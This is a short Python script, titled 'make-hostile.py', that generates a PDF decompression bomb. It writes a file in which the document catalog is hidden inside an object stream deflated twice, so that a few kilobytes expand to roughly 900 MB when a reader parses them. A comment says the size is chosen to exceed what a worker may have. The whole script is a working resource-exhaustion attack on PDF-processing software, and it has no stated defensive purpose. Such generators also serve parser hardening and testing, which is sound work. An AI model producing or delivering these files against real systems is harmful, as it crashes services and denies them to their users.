#!/usr/bin/env python3
# make-hostile.py: small PDF files that cost their reader much
#
# Usage: make-hostile.py DIRECTORY

import sys
import zlib
from pathlib import Path

BLANKS = 900 * 1024 * 1024      # more than a worker may have


def deflate_twice(start, blanks):
    """Start and then blanks, deflated twice: some kilobytes."""
    inner, outer, step = zlib.compressobj(9), zlib.compressobj(9), b' ' * (1 << 20)
    out = outer.compress(inner.compress(start))
    out += b''.join(outer.compress(inner.compress(step)) for _ in range(blanks // len(step)))
    return out + outer.compress(inner.flush()) + outer.flush()


def object_stream_bomb():
    """The catalog, object 3, stands in object stream 1 before many blanks."""
    data = deflate_twice(b'3 0  <</Type/Catalog/Pages 4 0 R>>', BLANKS)
    out = b'%PDF-1.5\n'
    at = len(out)
    out += (b'1 0 obj\n<</Type/ObjStm/N 1/First 5/Filter[/FlateDecode/FlateDecode]/Length %d>>'
            b'\nstream\n' % len(data)) + data + b'\nendstream\nendobj\n'
    xref = len(out)
    # one row an object: free; at an offset; the table itself; in stream 1
    rows = b''.join(bytes([kind]) + place.to_bytes(3, 'big') + b'\0'
                    for kind, place in ((0, 0), (1, at), (1, xref), (2, 1)))
    return out + (b'2 0 obj\n<</Type/XRef/Size 4/W[1 3 1]/Root 3 0 R/Length %d>>\nstream\n'
                  % len(rows)) + rows + (b'\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n' % xref)


def main():
    out = Path(sys.argv[1])
    (out / 'object-stream-bomb.pdf').write_bytes(object_stream_bomb())


main()
